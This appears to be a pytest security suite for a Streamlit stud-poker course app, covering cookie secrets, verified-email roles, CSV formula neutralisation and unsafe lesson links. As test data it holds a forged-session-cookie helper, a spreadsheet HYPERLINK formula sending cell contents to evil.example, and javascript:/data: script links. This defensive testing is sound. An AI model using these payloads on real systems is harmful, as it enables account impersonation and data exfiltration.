"""Security: no forged login, no role from an unverified e-mail. Real servers, a real
OpenID Connect provider (oidc-provider-mock), driven over the websocket as a browser tab is."""

from __future__ import annotations

import json
from pathlib import Path
import re
import time
import urllib.request

import pytest
from secrets import token_urlsafe

from course.app import state
from tests.support.apptest import AUTH, open_app, texts
from tests.support.serve import ROOT, AppServer, free_port
from tests.support.wsclient import Tab, log_in
from course.store import ENV_VAR

# The example secret the README shows (whoever reads the README could sign with it).
README_PLACEHOLDER = re.search(r'^cookie_secret = "(.*)"', (ROOT / "README.md").read_text(
    encoding="utf-8"), re.M).group(1)
# made afresh for each run: a server refuses a secret written anywhere in the repository
GOOD_SECRET = token_urlsafe(48)


def write_secrets(path, port, provider, secret, extra=""):
    line = "" if secret is None else f"cookie_secret = {json.dumps(secret)}\n"
    path.write_text(f"""[auth]
redirect_uri = "http://localhost:{port}/oauth2callback"
{line}client_id = "stud-study-room"
client_secret = "test-secret"
server_metadata_url = "{provider}/.well-known/openid-configuration"
{extra}""", encoding="utf-8")
    return path


def forged_login(base_url: str, secret: str, claims: dict) -> tuple[str, str]:
    """What an attacker who knows (or guesses) the cookie secret sends: a `_streamlit_user`
    cookie signed with it, claiming to be anyone; no provider involved."""
    from streamlit.web.server.starlette.starlette_app_utils import create_signed_value

    jar = urllib.request.HTTPCookieProcessor()
    urllib.request.build_opener(jar).open(f"{base_url}/_stcore/health").read()
    xsrf = next(c.value for c in jar.cookiejar if c.name == "_streamlit_xsrf")
    payload = json.dumps({"origin": base_url, "is_logged_in": True, **claims})
    user = create_signed_value(secret, "_streamlit_user", payload).decode()
    return f"_streamlit_xsrf={xsrf}; _streamlit_user={user}", xsrf


def headings(page) -> list[str]:
    return [p.body for n, p in page.elements if n == "heading"]


# -- 1. a weak cookie secret: shared mode refuses to start -----------------------------------

@pytest.mark.parametrize("secret, why", [
    (None, "no cookie_secret"), ("", "empty"), ("   ", "empty"),
    (README_PLACEHOLDER, "example from the documentation"), ("xxx", "example"),
    ("a long random string", "example"),
    ("short-but-not-empty", "19 bytes"), ("a" * 40, "not random")])
def test_a_weak_cookie_secret_is_named_with_how_to_make_one(secret, why):
    auth = {} if secret is None else {"cookie_secret": secret}
    problem = state.cookie_secret_problem(auth)
    assert problem and why in problem and "secrets.token_urlsafe(48)" in problem


def test_a_long_random_cookie_secret_is_accepted():
    assert state.cookie_secret_problem({"cookie_secret": GOOD_SECRET}) is None
    assert state.cookie_secret_problem(AUTH["auth"]) is None      # the tests' own secret


@pytest.mark.parametrize("secret", ["", README_PLACEHOLDER, "only-twenty-bytes-xx"])
def test_the_server_refuses_to_start_shared_mode_with_a_weak_secret(tmp_path, provider, secret):
    port = free_port()
    secrets = write_secrets(tmp_path / "secrets.toml", port, provider, secret)
    server = AppServer({ENV_VAR: str(tmp_path / "p.db")}, log=tmp_path / "app.log",
                       secrets=secrets, host="localhost", port=port)
    try:
        with pytest.raises(RuntimeError, match="Shared mode cannot start: .*cookie_secret"):
            server.wait(timeout=60)
    finally:
        server.stop()
    assert server.proc.returncode == 2


@pytest.mark.parametrize("secret", ["", README_PLACEHOLDER])
def test_a_cookie_signed_with_a_weak_secret_does_not_open_the_class_page(tmp_path, provider,
                                                                         secret):
    """Started with plain `streamlit run` (no start-up check): the page itself refuses."""
    port = free_port()
    secrets = write_secrets(tmp_path / "secrets.toml", port, provider, secret,
                            '[roles]\nteachers = ["tia@school.example"]\n')
    with AppServer({ENV_VAR: str(tmp_path / "p.db")}, log=tmp_path / "app.log",
                   secrets=secrets, host="localhost", port=port, plain=True) as app:
        login = forged_login(app.url, secret, {"iss": provider, "sub": "tia",
                                               "email": "tia@school.example",
                                               "email_verified": True, "name": "Tia"})
        tab = Tab(app.url, login=login)
        try:
            page = tab.run(page="class")
        finally:
            tab.close()
    assert "Class" not in headings(page) and "Course map" not in headings(page)
    assert any("Shared mode cannot start" in t and "cookie_secret" in t for t in page.texts())


def test_apptest_shared_mode_refuses_an_empty_secret(tmp_path):
    from tests.support.apptest import AppTest

    from tests.support import apptest

    with apptest.environment(tmp_path / "p.db"):
        at = AppTest.from_file(str(apptest.ENTRY), default_timeout=30)
        at.secrets.update({"auth": {**AUTH["auth"], "cookie_secret": ""}},
                          roles={"teachers": ["Tia"]})
        at.user = apptest.user("Tia")            # what a forged cookie gives
        at.run()
        assert "Shared mode cannot start" in texts(at) and not at.title
        at.switch_page(apptest.PAGES["class"]).run()
        assert "Shared mode cannot start" in texts(at) and not at.title


# -- 2. roles by e-mail only from a verified address -----------------------------------------

def set_claims(provider: str, sub: str, claims: dict) -> None:
    request = urllib.request.Request(f"{provider}/users/{sub}", method="PUT",
                                     data=json.dumps(claims).encode(),
                                     headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(request, timeout=10) as reply:
        assert reply.status == 204


@pytest.fixture
def shared_teacher_app(provider, tmp_path):
    port = free_port()
    secrets = write_secrets(tmp_path / "secrets.toml", port, provider, GOOD_SECRET,
                            '[roles]\nteachers = ["tia@school.example"]\n')
    with AppServer({ENV_VAR: str(tmp_path / "p.db")}, log=tmp_path / "app.log",
                   secrets=secrets, host="localhost", port=port) as app:
        yield app.url, provider


@pytest.mark.parametrize("verified, teacher", [(None, False), (False, False), ("yes", False),
                                               (True, True)])
def test_a_teacher_role_by_email_needs_email_verified_true(shared_teacher_app, verified,
                                                           teacher):
    url, provider = shared_teacher_app
    sub = f"visitor-{time.monotonic_ns()}"
    claims = {"email": "TIA@school.example", "name": "Someone"}
    if verified is not None:
        claims["email_verified"] = verified
    set_claims(provider, sub, claims)
    tab = Tab(url, login=log_in(url, sub))
    try:
        page = tab.run(page="class")
    finally:
        tab.close()
    assert ("Class" in headings(page)) is teacher, (headings(page), page.texts())
    if not teacher:
        assert "Course map" in headings(page)     # a learner, sent to the default page


def test_apptest_a_missing_email_verified_claim_grants_no_role(tmp_path):
    from tests.support.apptest import AppTest

    from tests.support import apptest

    with apptest.environment(tmp_path / "p.db"):
        at = AppTest.from_file(str(apptest.ENTRY), default_timeout=30)
        at.secrets.update(AUTH, roles={"teachers": ["ann@example.test"]})
        at.user = apptest.user("Ann", email_verified=None)
        at.run()
        assert "email_verified" not in at.user and not at.exception
        with pytest.raises(ValueError, match="Known pages"):
            at.switch_page(apptest.PAGES["class"])


# -- 3. lone surrogates and other text a page cannot show -------------------------------------

def surrogate_course(tmp_path):
    """A copy of the course where one lesson's title and one exercise's title and intro hold a
    lone surrogate written as a YAML escape (as the issue found them)."""
    import shutil

    root = tmp_path / "course"
    shutil.copytree(ROOT / "lessons", root / "lessons")
    shutil.copytree(ROOT / "exercises", root / "exercises")
    lesson = root / "lessons" / "01-deal-timeline.yaml"
    lesson.write_text(lesson.read_text(encoding="utf-8").replace(
        "title: The deal, street by street", 'title: "Lesson \\ud800 title"'), encoding="utf-8")
    exercise = root / "exercises" / "stud-high" / f"{DEAL}.yaml"
    text = exercise.read_text(encoding="utf-8")
    text = re.sub(r"^title: .*$", lambda _: 'title: "Deal \\udfff title"\nintro: "An \\ud83d '
                  'intro"', text, count=1, flags=re.M)
    exercise.write_text(text, encoding="utf-8")
    return root


DEAL = "hpd-1-bring-in-suit-tie"


def test_course_check_names_each_lone_surrogate_by_file_line_and_column(tmp_path, capsys):
    from course.cli import main as cli_main

    root = surrogate_course(tmp_path)
    code = cli_main(["check", "--json", str(root / "lessons"), str(root / "exercises")])
    report = json.loads(capsys.readouterr().out)
    assert code == 1
    found = {(Path(p["file"]).name, p["line"], p["column"]) for p in report["problems"]
             if "surrogate" in p["message"]}
    exercise = (root / "exercises" / "stud-high" / f"{DEAL}.yaml").read_text().splitlines()
    title_line = next(n for n, t in enumerate(exercise, 1) if t.startswith("title:"))
    intro_line = next(n for n, t in enumerate(exercise, 1) if t.startswith("intro:"))
    assert found == {("01-deal-timeline.yaml", 2, 8), (f"{DEAL}.yaml", title_line, 8),
                     (f"{DEAL}.yaml", intro_line, 8)}


@pytest.mark.parametrize("page", ["map", "lesson", "practice", "progress", "review"])
def test_every_page_draws_when_a_course_text_holds_a_lone_surrogate(tmp_path, page):
    from tests.support.apptest import environment

    root = surrogate_course(tmp_path)
    with environment(tmp_path / "p.db", content=root):
        at = open_app(page, query={"deal": DEAL} if page == "practice" else None)
        assert not at.exception, [e.value for e in at.exception]
        assert at.title
        if page == "map":       # the skipped files are counted quietly; Author preview names them
            assert "One exercise and one lesson are being fixed" in texts(at)
            at.switch_page("screens/author.py").run()
            at.toggle(key="author_broken").set_value(True).run()
            assert any(o.endswith("01-deal-timeline.yaml") for o in at.selectbox(key="author_file").options)


@pytest.mark.parametrize("page", ["map", "lesson"])
def test_a_page_survives_a_bad_item_that_got_past_the_checks(tmp_path, page):
    """Whatever slips past `course check`, the visitor gets a notice, never a traceback."""
    import dataclasses

    from tests.support.apptest import environment

    with environment(tmp_path / "p.db"):
        course = state.course()
        first = next(iter(course.lessons))
        course.lessons[first] = dataclasses.replace(course.lessons[first],
                                                    title="Lesson \ud800 title")
        at = open_app(page)
        assert not at.exception, [e.value for e in at.exception]
        assert any("could not be drawn" in e.value for e in at.error)


# -- 4. no formula from a name or an answer in the teacher's CSVs -----------------------------

def test_csv_cells_that_start_like_a_formula_are_neutralised():
    import pandas as pd

    from course.store.progress import csv_text

    frame = pd.DataFrame({"name": ['=HYPERLINK("http://evil.example","x")', "+1", "-2+3",
                                   "@SUM(A1)", "\tTab", "\rCR", "Ava", "a=b"],
                          "right": [1, -1, 0, 2, 3, 4, 5, 6]})
    import csv
    import io

    rows = list(csv.reader(io.StringIO(csv_text(frame), newline="")))
    assert rows[0] == ["name", "right"]
    assert [r[1] for r in rows[1:]] == ["1", "-1", "0", "2", "3", "4", "5", "6"]   # numbers stay
    assert [r[0] for r in rows[1:]] == ['\'=HYPERLINK("http://evil.example","x")', "'+1",
                                        "'-2+3", "'@SUM(A1)", "'\tTab", "'\rCR", "Ava", "a=b"]


def cells(body: str) -> list[str]:
    import csv
    import io

    return [cell for row in csv.reader(io.StringIO(body, newline="")) for cell in row]


def test_the_class_csvs_hold_no_formula_from_a_display_name(provider, tmp_path):
    """A learner whose provider name is a formula; the teacher downloads both Class CSVs from
    the real server."""
    from course.store import Attempt, ProgressStore

    port = free_port()
    secrets = write_secrets(tmp_path / "secrets.toml", port, provider, GOOD_SECRET,
                            '[roles]\nteachers = ["tia"]\n')
    db = tmp_path / "p.db"
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Ava")'
    set_claims(provider, "mallory", {"name": evil, "email": "m@example.test"})
    with AppServer({ENV_VAR: str(db)}, log=tmp_path / "app.log", secrets=secrets,
                   host="localhost", port=port) as app:
        mallory = Tab(app.url, login=log_in(app.url, "mallory"))
        mallory.run()                                 # remembered under the formula name
        mallory.close()
        ProgressStore(db).record(Attempt(f"{provider}#mallory", DEAL, 0, "bring_in", "bring-in",
                                         "@SUM(1+1)", False))
        tab = Tab(app.url, login=log_in(app.url, "tia"))
        try:
            page = tab.run(page="class")
        finally:
            tab.close()
        urls = [p.url for n, p in page.elements if n == "download_button"]
        assert len(urls) == 2
        bodies = [urllib.request.urlopen(app.url + u, timeout=10).read().decode() for u in urls]
    for body in bodies:
        formulas = [c for c in cells(body) if c.startswith(("=", "+", "@", "\t", "\r"))
                    or (c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit())]
        assert not formulas, formulas
    assert all("'" + evil in cells(body) for body in bodies)
    assert '"@SUM(1+1)"' in cells(bodies[1])        # the answer, as JSON text: no formula


# -- 7. the work of a file inside every limit is bounded --------------------------------------

def test_a_raise_cap_past_the_limit_and_too_many_moves_are_refused_where_written():
    from tests.support import hostile
    from course.content import load, nodes

    text = hostile.many_raises()
    assert len(text.encode("utf-8")) <= nodes.MAX_FILE_BYTES         # inside the file limit
    loaded = load.load_text(text.encode("utf-8"), [], "exercises/x.yaml", lesson=False)
    lines = text.splitlines()
    found = {(p.line, p.column): p.message for p in loaded.problems}
    cap_line = next(n for n, t in enumerate(lines, 1) if "raise_cap" in t)
    assert "raise_cap 100,000 is past the limit of 20" in found[(cap_line, 22)]
    first_action = next(n for n, t in enumerate(lines, 1) if t == "actions:") + 1
    assert "action 201: an exercise lists at most 200" in found[(first_action + 200, 5)]
    assert len(loaded.problems) <= 3                  # bounded: not one problem per raise


def test_twenty_raises_a_round_inside_the_limits_are_still_legal(tmp_path):
    from tests.support import hostile
    from course.content import load

    text = hostile.many_raises(raises=19, questions=2).replace("raise_cap: 100000",
                                                                "raise_cap: 20")
    loaded = load.load_text(text.encode("utf-8"), [], "exercises/x.yaml", lesson=False)
    assert not loaded.problems, [str(p) for p in loaded.problems]
    assert len(loaded.model.actions) == 21


# -- 9. links and images in lessons, look-alike seat names, a link to "." ---------------------

LESSON = ROOT / "lessons" / "01-deal-timeline.yaml"


def lesson_with(text_line: str) -> list:
    from course.content import load

    text = LESSON.read_text(encoding="utf-8").replace(
        "      is what makes Stud a game of reading what is showing.",
        "      is what makes Stud a game of reading what is showing. " + text_line, 1)
    assert text_line in text
    return load.load_text(text.encode("utf-8"), [], "lessons/x.yaml", lesson=True).problems


@pytest.mark.parametrize("line, words", [
    ("[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "data: link"),
    ("[run](javascript:alert(1))", "javascript: link"),
    ("<data:text/html,x>", "data: link"),
    ("![tracker](https://evil.example/pixel.png)", "not a file of the app"),
    ("![tracker](//evil.example/pixel.png)", "not a file of the app"),
])
def test_a_lesson_link_or_image_that_leaves_the_app_unsafely_is_a_problem(line, words):
    problems = lesson_with(line)
    assert any(words in p.message for p in problems), [p.message for p in problems]


@pytest.mark.parametrize("line", ["[HPD](https://example.org/hpd)", "[mail](mailto:a@b.example)",
                                  "[practice](/practice?deal=x)", "![a card](app/static/k.png)"])
def test_http_links_the_apps_pages_and_local_images_are_fine(line):
    assert not [p for p in lesson_with(line) if "link" in p.message or "image" in p.message]


@pytest.mark.parametrize("name", ["Ava\u200b", "A\u200dva", "\u202eavA", "Ava\u2066", "Av\u00ada"])
def test_a_seat_name_with_invisible_characters_is_a_problem(name):
    from course.content import load

    text = (ROOT / "exercises" / "stud-high" / f"{DEAL}.yaml").read_text(encoding="utf-8")
    text = text.replace("seats: [Ava, Ben, Cara, Drew]", f'seats: ["{name}", Ava, Ben, Cara, Drew]')
    problems = load.load_text(text.encode("utf-8"), [], "exercises/x.yaml", lesson=False).problems
    assert any("invisible characters" in p.message and p.line == 6 for p in problems), \
        [str(p) for p in problems]


def test_a_directory_link_to_dot_inside_the_content_adds_no_second_copy(tmp_path):
    import shutil

    from course import content

    root = tmp_path / "course"
    shutil.copytree(ROOT / "lessons", root / "lessons")
    shutil.copytree(ROOT / "exercises", root / "exercises")
    plain = content.load_course(root)
    (root / "exercises" / "stud-high" / "again").symlink_to(".")
    (root / "lessons" / "again").symlink_to(".")
    (root / "exercises" / "twin.yaml").symlink_to(root / "exercises" / "stud-high" / f"{DEAL}.yaml")
    linked = content.load_course(root)
    assert not linked.problems, [str(p) for p in linked.problems[:3]]
    assert set(linked.exercises) == set(plain.exercises) and len(linked.files) == len(plain.files)


# -- 9. the Author preview queues its checks: one per CPU at a time ---------------------------

def test_the_preview_queues_checks_and_refuses_when_every_slot_stays_busy(monkeypatch):
    import threading

    from course.content import preview

    preview.clear_cache()
    text = (ROOT / "exercises" / "stud-high" / f"{DEAL}.yaml").read_text(encoding="utf-8")
    monkeypatch.setattr(preview, "CHECK_SLOTS", threading.BoundedSemaphore(1))
    monkeypatch.setattr(preview, "QUEUE_WAIT", 0.2)
    preview.CHECK_SLOTS.acquire()                 # another visitor's check holds the only slot
    try:
        busy = preview.check(text, "exercise.yaml", False)
    finally:
        preview.CHECK_SLOTS.release()
    assert busy.item is None and "busy" in busy.problems[0].message
    done = preview.check(text, "exercise.yaml", False)      # the slot is free: checked
    assert done.item is not None and not done.problems
    assert preview.CHECK_SLOTS.acquire(blocking=False)       # and given back
    preview.CHECK_SLOTS.release()


def test_one_visitor_has_one_preview_check_at_a_time_and_is_told_to_wait(monkeypatch):
    """A visitor's second check while their first waits for a slot is refused at once (not
    queued ahead of others); another visitor's check queues and runs; nothing refused is cached."""
    import threading

    from course.content import preview

    preview.clear_cache()
    text = (ROOT / "exercises" / "stud-high" / f"{DEAL}.yaml").read_text(encoding="utf-8")
    other = text.replace("Ava", "Ada")                          # another text: no cache hit
    monkeypatch.setattr(preview, "CHECK_SLOTS", threading.BoundedSemaphore(1))
    monkeypatch.setattr(preview, "QUEUE_WAIT", 120.0)
    done: dict[str, preview.Checked] = {}

    def check(who, body, name):
        done[who] = preview.check(body, name, False, visitor=who.split("-")[0])

    preview.CHECK_SLOTS.acquire()                 # the only slot is busy: checks queue
    first = threading.Thread(target=check, args=("ava-1", text, "one.yaml"))
    first.start()
    for _ in range(600):
        if "ava" in preview._VISITORS:
            break
        time.sleep(0.05)
    second = preview.check(other, "two.yaml", False, visitor="ava")   # her other tab
    assert first.is_alive()                       # it returned while her first still waits
    assert second.busy and second.item is None and "wait" in second.problems[0].message
    bo = threading.Thread(target=check, args=("bo-1", other, "two.yaml"))
    bo.start()
    time.sleep(0.3)
    assert bo.is_alive()                          # another visitor queues: not refused
    preview.CHECK_SLOTS.release()
    first.join(120)
    bo.join(120)
    assert done["ava-1"].item is not None and not done["ava-1"].problems
    assert done["bo-1"].item is not None and not done["bo-1"].problems
    again = preview.check(other, "two.yaml", False, visitor="ava")    # her turn now
    assert again.item is not None and not again.busy and "ava" not in preview._VISITORS


def test_the_author_preview_says_wait_while_the_visitors_other_check_runs(tmp_path):
    from course.content import preview
    from tests.support.apptest import environment

    preview.clear_cache()
    text = (ROOT / "exercises" / "stud-high" / f"{DEAL}.yaml").read_text(encoding="utf-8")
    with environment(tmp_path / "p.db"):
        at = open_app("author")
        at.button_group(key="author_source").set_value("Paste YAML").run()
        preview._VISITORS.add(state.LOCAL.key)    # their check in another tab is running
        try:
            at.text_area(key="author_paste").set_value(text).run()
        finally:
            preview._VISITORS.discard(state.LOCAL.key)
        assert not at.exception and not at.error, texts(at)
        assert any("wait for it to finish" in i.value for i in at.info), texts(at)
        at.run()                                  # theirs is done: this one is checked
        assert any("no problems found" in s.value for s in at.success), texts(at)


@pytest.mark.parametrize("name", [" =1+1", "\t=1", "\u3000@SUM(1)", "\uff1d1+1", "\uff0bcmd",
                                  "\uff0d2", "\uff20SUM(1)", "\n-2+3"])
def test_the_csv_neutraliser_sees_through_leading_whitespace_and_full_width_signs(name):
    from course.store.progress import csv_text

    import pandas as pd
    (cell,) = cells(csv_text(pd.DataFrame({"name": [name]})))[1:]
    assert cell == "'" + name
